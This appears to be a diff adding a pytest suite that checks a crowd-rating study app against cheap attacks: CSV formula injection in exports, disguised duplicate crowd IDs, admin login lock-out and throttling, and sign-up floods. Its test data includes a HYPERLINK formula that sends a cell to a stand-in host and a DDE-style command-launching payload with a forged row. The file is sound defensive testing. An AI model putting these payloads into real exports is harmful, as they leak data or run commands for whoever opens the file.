@@ -1,0 +1,294 @@
+"""Trust, round 2 (issue 22): each cheap crowd attack and admin lock-out, performed against a
+served app, with the outcome it must have. Every DB test runs on SQLite and PostgreSQL."""
+
+from __future__ import annotations
+
+import uuid
+
+import pytest
+from sqlalchemy import select
+
+from app.store.models import Participant, Study
+from tests.test_api import answer, join, next_
+
+
+def _answer_all(client, token, limit=60) -> dict:
+    """Answer every trial `token` is given; returns the final /next body (done or an error)."""
+    for _ in range(limit):
+        r = next_(client, token)
+        if r.status_code != 200 or r.json().get("done"):
+            return {"status": r.status_code, **r.json()}
+        a = answer(client, token, r.json()["trial"], 3)
+        assert a.status_code in (200, 409), a.text
+    raise AssertionError("participant never finished")
+
+
+# ------------------------------------------------------------------ 6: the last answer of an auto-closing study
+def test_last_answer_of_auto_closing_study_ends_done_with_code(client, session, study_factory):
+    study = study_factory(n_pairs=2, pairs_per_participant=2, ratings_per_pair=1, auto_close=True,
+                          completion_code="LAST42")
+    slug, study_id = study.slug, study.id
+    session.rollback()
+    token = join(client, slug)
+    end = _answer_all(client, token)
+    assert end["status"] == 200 and end["done"] is True, end
+    assert end["completion_code"] == "LAST42"
+    session.expire_all()
+    assert session.scalar(select(Study.state).where(Study.id == study_id)) == "closed"
+    session.rollback()
+    # The done page shows the code too.
+    client.cookies.set("participant", token)
+    page = client.get(f"/s/{slug}/done")
+    assert page.status_code == 200 and "LAST42" in page.text
+
+
+# ------------------------------------------------------------------ 5: CSV injection
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+FORMULA_START = tuple("=+-@\t\r")
+
+
+def _admin(client, session):
+    from app.accounts.admins import ensure_admin
+    from tests.test_admin import PASSWORD, USER, login
+
+    ensure_admin(session, USER, PASSWORD)
+    session.commit()
+    assert login(client).status_code == 303
+
+
+def _assert_inert(text: str, expect_rows: int | None = None) -> list[list[str]]:
+    """Every cell of the CSV `text` is inert in a spreadsheet, and no line break forges a row."""
+    import csv
+    import io
+
+    # splitlines() breaks at a bare CR too, as a spreadsheet does: a forged row would show here.
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows == list(csv.reader(text.splitlines(keepends=True))) or "\r" not in text
+    for row in rows:
+        for cell in row:
+            if cell[:1] in FORMULA_START:
+                try:
+                    float(cell)
+                except ValueError:
+                    raise AssertionError(f"live formula cell {cell!r}") from None
+    if expect_rows is not None:
+        assert len(rows) == expect_rows, rows
+    return rows
+
+
+def _hostile_pair_set(tmp_path, session):
+    import json
+
+    from app.studies.importer import import_pair_set
+    from tests.conftest import write_pair_set
+
+    folder = write_pair_set(tmp_path / "hostile", 3, seed=7)
+    lines = [json.loads(x) for x in (folder / "manifest.jsonl").read_text().splitlines()]
+    lines[0]["prompt"] = '@SUM(1+1)*cmd|" /C calc"!A0\r\nforged,row,here'
+    lines[1]["prompt"] = "-2+3"
+    (folder / "manifest.jsonl").write_text("\n".join(json.dumps(x) for x in lines) + "\n")
+    ps = import_pair_set(session, folder)
+    session.commit()
+    return ps.id
+
+
+def test_csv_exports_neutralise_hostile_ids_and_text(client, session, study_factory, tmp_path):
+    ps = _hostile_pair_set(tmp_path, session)
+    study = study_factory([ps], pairs_per_participant=3, ratings_per_pair=3, completion_code="CODE1")
+    slug = study.slug
+    session.rollback()
+    for i, pid in enumerate([HOSTILE, "+1-555-0100", "@evil"]):
+        token = join(client, slug, PROLIFIC_PID=pid, SESSION_ID=f"-{i}=cmd", STUDY_ID="x")
+        assert _answer_all(client, token)["done"] is True
+    _admin(client, session)
+    files = {
+        "decisions": client.get(f"/admin/studies/{slug}/participants/decisions.csv"),
+        "codes": client.get(f"/admin/studies/{slug}/participants/completion-codes.csv"),
+        "ratings": client.get(f"/admin/studies/{slug}/export.csv"),
+    }
+    for name, r in files.items():
+        assert r.status_code == 200, (name, r.text)
+    decisions = _assert_inert(files["decisions"].text, 4)
+    assert decisions[1][0] == "'" + HOSTILE.lower() or decisions[1][0] == "'" + HOSTILE
+    _assert_inert(files["codes"].text, 4)
+    ratings = _assert_inert(files["ratings"].text, 1 + 9)
+    header = ratings[0]
+    scores = [int(r[header.index("score")]) for r in ratings[1:]]
+    assert all(-2 <= s <= 2 for s in scores)  # numbers stay numbers
+    prompts = {r[header.index("prompt")] for r in ratings[1:]}
+    assert "'-2+3" in prompts
+    # The report zip and `sfgeval export` write the same neutralised ratings.
+    import io
+    import zipfile
+
+    z = client.get(f"/admin/studies/{slug}/report.zip")
+    if z.status_code == 200:
+        with zipfile.ZipFile(io.BytesIO(z.content)) as zf:
+            for name in zf.namelist():
+                if name.endswith(".csv"):
+                    _assert_inert(zf.read(name).decode("utf-8"))
+    from click.testing import CliRunner
+
+    from app import cli
+
+    out = CliRunner().invoke(cli.main, ["export", slug, "--database-url", str(client.app.state.settings.database_url)])
+    assert out.exit_code == 0, out.output
+    _assert_inert(out.output, 1 + 9)
+
+
+def test_csv_helper_keeps_numbers_and_quotes_line_breaks():
+    from app.store.csvsafe import csv_text
+
+    text = csv_text(["a", "b", "c"], [[-2, "-2", "x\ry"], [1.5, "=1+1", " @x"], [None, True, "\tz"]])
+    assert text.split("\n")[1].startswith("-2,'-2,\"x\ry\"")
+    _assert_inert(text, 4)
+
+
+# ------------------------------------------------------------------ 3: one person, one crowd id
+PID = "5f1a2b3c4d5e6f708192a3b4"
+
+
+@pytest.mark.parametrize("variant,status", [
+    (PID.upper(), 409),                                   # case
+    (f"  {PID}\u00a0", 409),                              # surrounding (and no-break) spaces
+    ("".join(chr(ord(c) + 0xFEE0) for c in PID), 409),    # full-width digits and letters
+    (f"{PID}\r", 422), (f"\t{PID}", 422),                 # CR, TAB
+    (f"\u200f{PID}", 422), (f"{PID}\u202e", 422),         # right-to-left mark, override
+    (f"{PID[:12]}\u200b{PID[12:]}", 422),                 # zero-width space
+])
+def test_crowd_id_variants_are_the_same_person(client, session, study_factory, variant, status):
+    study = study_factory(n_pairs=4, pairs_per_participant=2)
+    slug = study.slug
+    session.rollback()
+    first = client.post(f"/api/studies/{slug}/participants", json={"external_ids": {"PROLIFIC_PID": PID}})
+    assert first.status_code == 201
+    again = client.post(f"/api/studies/{slug}/participants", json={"external_ids": {"PROLIFIC_PID": variant}})
+    assert again.status_code == status, again.text
+    # The HTML form says the same (never a second participant).
+    r = client.post(f"/s/{slug}/start", data={"consent": "yes", "PROLIFIC_PID": variant}, follow_redirects=False)
+    assert r.status_code == status, r.text
+    session.expire_all()
+    stored = session.scalars(select(Participant.external_ids).where(Participant.study_id == study.id)).all()
+    session.rollback()
+    assert stored == [{"PROLIFIC_PID": PID}]
+
+
+def test_mturk_ids_are_upper_case_and_the_same_worker(client, session, study_factory):
+    study = study_factory(n_pairs=4, pairs_per_participant=2)
+    slug = study.slug
+    session.rollback()
+    a = client.post(f"/api/studies/{slug}/participants",
+                    json={"external_ids": {"workerId": " a1b2c3d4e5 ", "assignmentId": "x1"}})
+    assert a.status_code == 201
+    b = client.post(f"/api/studies/{slug}/participants",
+                    json={"external_ids": {"workerId": "Ａ1B2C3D4E5", "assignmentId": "X1"}})
+    assert b.status_code == 200 and b.json() == a.json()  # resumed: same worker, same assignment
+    session.expire_all()
+    ids = session.scalars(select(Participant.external_ids).where(Participant.study_id == study.id)).all()
+    session.rollback()
+    assert ids == [{"workerId": "A1B2C3D4E5", "assignmentId": "X1"}]
+
+
+# ------------------------------------------------------------------ 7: no admin lock-out, atomic throttle
+@pytest.fixture
+def proxied_app(settings):
+    """The app behind a trusted reverse proxy (the test client's own address): tests pick each
+    request's client address with X-Forwarded-For, as the proxy would."""
+    from app.main import create_app
+
+    application = create_app(settings.model_copy(update={"trusted_proxies": "testclient,127.0.0.1",
+                                                        "signup_rate_per_minute": 30.0, "signup_burst": 60}))
+    yield application
+    application.state.engine.dispose()
+
+
+@pytest.fixture
+def proxied_client(proxied_app):
+    from fastapi.testclient import TestClient
+
+    with TestClient(proxied_app) as c:
+        yield c
+
+
+def _login_from(client, address, user, password):
+    from tests.test_admin import csrf_of
+
+    client.headers["X-Forwarded-For"] = address
+    csrf = csrf_of(client.get("/admin/login").text)
+    return client.post("/admin/login", data={"username": user, "password": password, "csrf_token": csrf},
+                       follow_redirects=False)
+
+
+def test_guessing_from_one_address_does_not_lock_the_admin_out(proxied_client, proxied_app):
+    from app.accounts.admins import ensure_admin
+    from tests.test_admin import PASSWORD, USER
+
+    with proxied_app.state.sessionmaker() as s:
+        ensure_admin(s, USER, PASSWORD)
+        s.commit()
+    attacker = [_login_from(proxied_client, "203.0.113.9", USER, f"guess-{i}").status_code for i in range(12)]
+    assert attacker[:5] == [401] * 5 and set(attacker[5:]) == {429}
+    proxied_client.cookies.clear()
+    r = _login_from(proxied_client, "198.51.100.7", USER, PASSWORD)  # the admin, elsewhere, at once
+    assert r.status_code == 303, r.text
+
+
+def test_throttle_check_and_count_is_atomic_under_parallel_guesses(app, live_server):
+    import concurrent.futures
+
+    import httpx
+
+    from app.accounts.admins import ensure_admin
+    from app.accounts.login_throttle import FREE_PER_PAIR
+    from tests.test_admin import PASSWORD, USER, csrf_of
+
+    with app.state.sessionmaker() as s:
+        ensure_admin(s, USER, PASSWORD)
+        s.commit()
+
+    def guess(i):
+        with httpx.Client(base_url=live_server, timeout=60) as c:
+            csrf = csrf_of(c.get("/admin/login").text)
+            return c.post("/admin/login", data={"username": USER, "password": f"wrong-{i}", "csrf_token": csrf}).status_code
+
+    with concurrent.futures.ThreadPoolExecutor(16) as pool:
+        statuses = list(pool.map(guess, range(16)))
+    assert statuses.count(401) <= FREE_PER_PAIR and statuses.count(401) + statuses.count(429) == 16, statuses
+
+
+# ------------------------------------------------------------------ 2: sign-up flooding
+def test_sign_up_flood_from_one_address_is_limited_but_a_launch_is_not(proxied_client, proxied_app, study_factory,
+                                                                        session):
+    study = study_factory(n_pairs=4, pairs_per_participant=2)
+    slug = study.slug
+    session.rollback()
+    settings = proxied_app.state.settings
+
+    def sign_up(address):
+        return proxied_client.post(f"/api/studies/{slug}/participants", headers={"X-Forwarded-For": address})
+
+    # A 300-person launch from distinct addresses, all at once: nobody waits.
+    launch = [sign_up(f"10.{i // 250}.{i % 250}.1").status_code for i in range(300)]
+    assert launch == [201] * 300
+    # One address scripting sign-ups: the burst goes through, then 429 with Retry-After.
+    flood = [sign_up("203.0.113.77") for _ in range(settings.signup_burst + 40)]
+    codes = [r.status_code for r in flood]
+    assert codes[:settings.signup_burst] == [201] * settings.signup_burst
+    assert codes.count(429) >= 35
+    limited = next(r for r in flood if r.status_code == 429)
+    assert int(limited.headers["Retry-After"]) >= 1 and limited.json()["reason"] == "rate_limited"
+    # The consent form is limited by the same budget, and other addresses are untouched.
+    page = proxied_client.post(f"/s/{slug}/start", data={"consent": "yes"}, headers={"X-Forwarded-For": "203.0.113.77"},
+                               follow_redirects=False)
+    assert page.status_code == 429 and "Retry-After" in page.headers
+    assert sign_up("198.51.100.1").status_code == 201
+
+
+def test_sign_up_limiter_refills():
+    from app.web.clients import SignupLimiter
+
+    now = [0.0]
+    limiter = SignupLimiter(per_minute=30, burst=3, clock=lambda: now[0])
+    assert [limiter.take("a") for _ in range(4)] == [0, 0, 0, 2]
+    now[0] += 2.0
+    assert limiter.take("a") == 0 and limiter.take("b") == 0
